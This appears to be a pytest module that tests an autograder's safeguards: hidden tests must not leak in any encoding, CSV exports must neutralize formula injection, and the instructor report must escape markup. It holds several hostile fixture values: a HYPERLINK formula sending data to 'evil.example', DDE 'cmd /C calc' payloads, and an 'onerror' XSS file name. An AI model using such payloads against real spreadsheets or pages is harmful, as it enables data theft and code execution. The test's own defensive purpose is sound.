"""What people open is inert (issue 27, item 6), proven on one real grading through the CLI's
own command (``./course grade --lms`` on a scratch course with every lesson), then
``./course lms-export``:

- hidden tests leave no trace in anything a student receives, in any encoding (one student per
  lesson hands in ``tests/submissions/leak_encoded.py.tmpl``);
- every CSV neutralizes formula-leading text (OWASP), scores stay numbers;
- the instructor report escapes student-controlled text.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import csv
import functools
import gzip
import html
import io
import lzma
import re
import urllib.parse
import zipfile
import zlib
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from autograder import ROOT
from autograder.csvfile import neutralize
from autograder.grade.command import grade_command, lms_export_command
from autograder.grade.scratch import ScratchCourse, reference_answers, submission
from autograder.pipeline.concealment import AFTER_HIDDEN, CONCEALED
from tests.conftest import LESSONS, once_per_session
from tests.support.integrity_helpers import (
    answer_ids,
    attack,
    func_names,
    hidden_lines,
    require_bwrap,
)

pytestmark = pytest.mark.slow

LESSON = "01_neuron"
#: An LMS full name and a message a student controls, each starting with a formula character.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","점수 보기")'
NAMES = {"2001": HYPERLINK, "2002": "@SUM(1+1)*cmd|' /C calc'!A0", "2003": "+1+1",
         "2004": "-1+1"}
FORMULA_CLASS = "=1+1"  # a made-up exception class name: ``type()`` takes any string
FORMULA_VALUE = "=cmd|' /C calc'!A0"
#: A notebook file name that is markup (a browser would run its onerror).
MARKUP_NAME = "<img src=x onerror=alert(1)>.ipynb"
WORKSHEET = [
    ["Identifier", "Full name", "Email address", "ID number", "Status", "Grade",
     "Maximum Grade", "Grade can be changed", "Last modified (submission)",
     "Last modified (grade)", "Feedback comments"],
    *[[f"Participant {key}", name, "", f"2024{key}", "Submitted for grading", "", "10.00",
       "Yes", "-", "-", ""] for key, name in NAMES.items()],
]


def leak_student(lesson: str) -> str:
    return f"leak{lesson[:2]}"


def formula_submission() -> nbformat.NotebookNode:
    """The reference answers, the first answer function raising an exception whose class name
    and message start with ``=``."""
    gid = answer_ids(LESSON)[0]
    ref = reference_answers(LESSON)[gid]
    name = func_names(ref)[0]
    return submission(LESSON, {gid: ref + (
        f"\n\ndef {name}(*args, **kwargs):\n"
        f"    raise type({FORMULA_CLASS!r}, (Exception,), {{}})({FORMULA_VALUE!r})\n")})


def _grade(tmp: Path) -> dict:
    """Grade the scratch course in ``tmp / "course"`` as the module docstring says; the return
    codes and each leak student's scores."""
    course = ScratchCourse(LESSONS, path=tmp / "course")
    course.release()
    for lesson in LESSONS:
        course.submit(leak_student(lesson), lesson, attack(lesson, "leak_encoded", {}))
    crashed = course.path / "submitted" / "markup" / LESSON
    crashed.mkdir(parents=True)
    last = answer_ids(LESSON)[-1]
    (crashed / MARKUP_NAME).write_text(nbformat.writes(submission(
        LESSON, {last: "import os\nos._exit(1)\n"})), encoding="utf-8")
    download = tmp / "moodle.zip"
    with zipfile.ZipFile(download, "w") as zf:
        zf.writestr("Formula Student_2001_assignsubmission_file_/01_neuron.ipynb",
                    nbformat.writes(formula_submission()))
        zf.writestr("Plain Student_2002_assignsubmission_file_/01_neuron.ipynb",
                    nbformat.writes(submission(LESSON)))
    worksheet = tmp / "worksheet.csv"
    with worksheet.open("w", newline="", encoding="utf-8-sig") as fh:
        csv.writer(fh).writerows(WORKSHEET)
    rc = grade_command(LESSONS, lms=download, roster=worksheet, workers=2, root=course.path)
    export_rc = lms_export_command(LESSON, worksheet, tmp / "moodle-grades.csv",
                                   root=course.path)
    return dict(rc=rc, export_rc=export_rc,
                scores={lesson: course.scores(lesson, leak_student(lesson)) for lesson in LESSONS})


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The one grading, done once per test session also when pytest's workers split this
    module (:func:`tests.conftest.once_per_session`)."""
    require_bwrap()
    return once_per_session(tmp_path_factory, "inert", lambda tmp: dict(
        _grade(tmp), course=tmp / "course", export=tmp / "moodle-grades.csv"))


# --------------------------------------------------------------------------- hidden tests


def _runs(text: str) -> list[bytes]:
    """The bytes of every run of ``text`` that looks encoded (data: URLs, base64 and its URL
    alphabet, base32, base85, hex, lists of byte values)."""
    out = []
    for payload in re.findall(r"data:[\w/+.-]*(?:;[\w=-]+)*,([^\s\"'<>)]+)", text):
        out.append(urllib.parse.unquote_to_bytes(payload))
    patterns = [
        (r"[A-Za-z0-9+/]{16,}={0,2}", base64.b64decode),
        (r"[A-Za-z0-9_-]{16,}={0,2}", base64.urlsafe_b64decode),
        (r"[A-Z2-7]{16,}=*", base64.b32decode),
        (r"[0-9A-Za-z!#$%&()*+;<=>?@^_`{|}~-]{20,}", base64.b85decode),
        (r"(?:[0-9a-f]{2}){8,}", bytes.fromhex),
    ]
    for pattern, decode in patterns:
        for run in re.findall(pattern, text):
            for padded in (run, run + "=" * (-len(run) % 8)):
                try:
                    out.append(decode(padded))
                except (ValueError, binascii.Error):
                    pass
    for run in re.findall(r"\[(\d{1,3}(?:, \d{1,3}){7,})\]", text):
        out.append(bytes(int(n) for n in run.split(", ") if int(n) < 256))
    return out


def _unpacked(raw: bytes) -> list[str]:
    texts = [raw.decode("utf-8", "replace")]
    for unpack in (lambda b: zlib.decompressobj().decompress(b),
                   lambda b: gzip.GzipFile(fileobj=io.BytesIO(b)).read(),
                   lambda b: bz2.BZ2Decompressor().decompress(b),
                   lambda b: lzma.LZMADecompressor().decompress(b)):
        try:
            texts.append(unpack(raw).decode("utf-8", "replace"))
        except (OSError, EOFError, ValueError, zlib.error, lzma.LZMAError):
            pass
    return texts


def readings(text: str, depth: int = 2) -> list[str]:
    """``text`` as it is, HTML-unescaped, percent-unescaped, reversed, ROT13, and every
    encoded run in it decoded (and decompressed), ``depth`` levels deep (a whole page is
    unescaped, reversed and rotated once; what its runs decode to, at every level)."""
    found, level = [], [text]
    for step in range(depth + 1):
        found += level
        nxt = []
        for t in level:
            if step == 0 or len(t) < 100_000:
                nxt += [html.unescape(t), urllib.parse.unquote(t), t[::-1],
                        codecs.decode(t, "rot13")]
            nxt += [u for raw in _runs(t) for u in _unpacked(raw)]
        level = [t for t in dict.fromkeys(nxt) if t not in found]
    return found


@functools.lru_cache(maxsize=8)
def squeezed_readings(text: str) -> tuple[str, ...]:
    """:func:`readings` of ``text`` without whitespace, kept for the files every lesson's test
    reads (grades.csv, the LMS file, the report)."""
    return tuple("".join(t.split()) for t in readings(text))


def leaked(text: str, lines: list[str]) -> list[str]:
    squeezed = squeezed_readings(text)
    return [line for line in lines if any("".join(line.split()) in t for t in squeezed)]


def test_the_reading_finds_the_red_teams_encoding():
    """The reading of the tests below finds a hidden line in base64 of zlib inside HTML, in a
    data: URL and as byte values (so an empty result means no such form)."""
    lines = hidden_lines(LESSON, ROOT)
    raw = ("\n".join(lines[:3])).encode()
    page = (f'<pre>{base64.b64encode(zlib.compress(raw)).decode()}</pre>'
            f'<a href="data:text/plain;base64,{base64.b64encode(raw).decode()}">x</a>'
            f"{list(raw)}")
    assert leaked(page, lines) == lines[:3]
    assert leaked(html.escape(lines[0]), lines) == lines[:1]


@pytest.mark.parametrize("lesson", LESSONS)
def test_hidden_tests_leave_no_trace(graded, lesson):
    """The encoded-leak student of each lesson scores 0, its messages concealed; no hidden
    test line is in its feedback page (raw HTML, read every way :func:`readings` knows), its
    autograded notebook's outputs and metadata, grades.csv, the LMS file or the report."""
    course, student = graded["course"], leak_student(lesson)
    lines = hidden_lines(lesson, ROOT)
    assert lines
    scores = graded["scores"][lesson]
    assert scores and set(scores.values()) == {0.0}, scores
    page = course / "feedback" / student / lesson / f"{lesson}.html"
    raw = page.read_text(encoding="utf-8")
    assert AFTER_HIDDEN in html.unescape(raw)
    assert leaked(raw, lines) == [], page
    nb = nbformat.read(course / "autograded" / student / lesson / f"{lesson}.ipynb",
                       as_version=4)
    kept = nbformat.writes(nbformat.v4.new_notebook(metadata=nb.metadata, cells=[
        nbformat.v4.new_code_cell(outputs=c.get("outputs", []), metadata=c.metadata)
        for c in nb.cells]))
    assert leaked(kept, lines) == []
    with open(course / "grades.csv", encoding="utf-8-sig", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["student"] == student]
    messages = {r["message"] for r in rows if r["cell"] != "(total)"}
    assert f"Exception: {CONCEALED}" in messages, messages  # the rest carry no hidden line
    for path in (course / "grades.csv", graded["export"],
                 course / "reports" / "instructor-report.html"):
        assert leaked(path.read_text(encoding="utf-8-sig"), lines) == [], path


# --------------------------------------------------------------------------- CSV


def _csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_grades_csv_neutralizes_a_formula_message(graded):
    """A message built from the student's exception (class ``=1+1``) gets a leading ``'`` in
    grades.csv; pandas reads the scores as numbers."""
    assert graded["rc"] == 0
    path = graded["course"] / "grades.csv"
    rows = [r for r in _csv(path) if r["student"] == "20242001"]
    first = rows[0]
    assert first["message"] == f"'{FORMULA_CLASS}: {FORMULA_VALUE}", rows
    assert float(first["score"]) == 0
    starts = [v for r in _csv(path) for v in r.values() if v and v[0] in "=+-@\t\r"]
    assert starts == [], starts
    frame = pd.read_csv(path, encoding="utf-8-sig")
    for column in ("score", "max_score", "late_penalty"):
        assert pd.api.types.is_float_dtype(frame[column]), frame.dtypes
    total = frame[(frame.student == "20242002") & (frame.cell == "(total)")]
    assert total.score.tolist() == [10.0]


def test_lms_export_neutralizes_full_names(graded):
    """``./course lms-export`` writes the Moodle worksheet back with each full name that starts
    with a formula character quoted by ``'``, the grades as numbers."""
    assert graded["export_rc"] == 0
    rows = {r["Identifier"]: r for r in _csv(graded["export"])}
    assert {k: r["Full name"] for k, r in rows.items()} == {
        f"Participant {key}": "'" + name for key, name in NAMES.items()}
    assert rows["Participant 2002"]["Grade"] == "10.00"
    assert rows["Participant 2001"]["Last modified (grade)"] == "-"
    frame = pd.read_csv(graded["export"], encoding="utf-8-sig")
    assert frame.Grade.tolist()[:2] == [float(rows["Participant 2001"]["Grade"]), 10.0]
    assert pd.api.types.is_float_dtype(frame.Grade)


def test_numbers_stay_numbers():
    """Negative numbers (a penalty as text or as a number) are not formulas."""
    assert [neutralize(v) for v in (-3.0, "-3.00", "+1", "-", "1e-3", None, "")] == [
        -3.0, "-3.00", "+1", "-", "1e-3", None, ""]
    assert [neutralize(v) for v in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-1+1")] == [
        "'=1+1", "'+A1", "'-A1", "'@A1", "'\tx", "'\rx", "'-1+1"]


# --------------------------------------------------------------------------- report


def test_report_escapes_student_text(graded):
    """The crashed notebook's file name, markup, is in the report as text: no element of it."""
    raw = (graded["course"] / "reports" / "instructor-report.html").read_text("utf-8")
    soup = BeautifulSoup(raw, "html.parser")
    assert soup.find_all(attrs={"onerror": True}) == []
    assert soup.find_all("script") == []
    row = [tr.get_text(" ") for tr in soup.find_all("tr") if "renamed" in tr.get_text()]
    assert len(row) == 1 and repr(MARKUP_NAME) in row[0], row
    assert html.escape(MARKUP_NAME, quote=False) in raw
